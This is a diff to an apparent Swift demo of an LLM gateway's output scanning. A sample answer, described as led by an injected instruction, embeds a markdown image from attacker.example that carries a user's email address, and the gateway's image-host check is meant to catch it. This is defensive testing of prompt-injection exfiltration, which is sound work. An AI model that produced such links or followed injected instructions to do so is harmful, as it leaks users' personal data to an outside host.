@@ -102,8 +102,9 @@ enum GatewayDemo {
             let answer = try await post(base + "/v1/chat/completions", body, key: keys.app, client: client)
             emit("   \(what) → \(answer.status): \(answer.body)\n")
         }
-        // Output scanning reads answers as the gateway does: an image from a host not in gateway.detection.image_hosts
-        // would carry data out when the client renders it.
+        // Output scanning's image check, read here with the same detectors and the configured
+        // gateway.detection.image_hosts (the demo's upstream writes no images): an image from a host not listed would
+        // carry data out when the client renders it.
         let led = "Here is your chart: ![Q3](https://attacker.example/c.png?d=jane.doe%40example.com)"
         let answerOptions = ScanOptions(pii: false, injection: false, imageHosts: ImageHosts(context.configuration.gateway.detection.imageHosts))
         emit("   an answer led by an injected instruction to add an image; the client receives:\n")
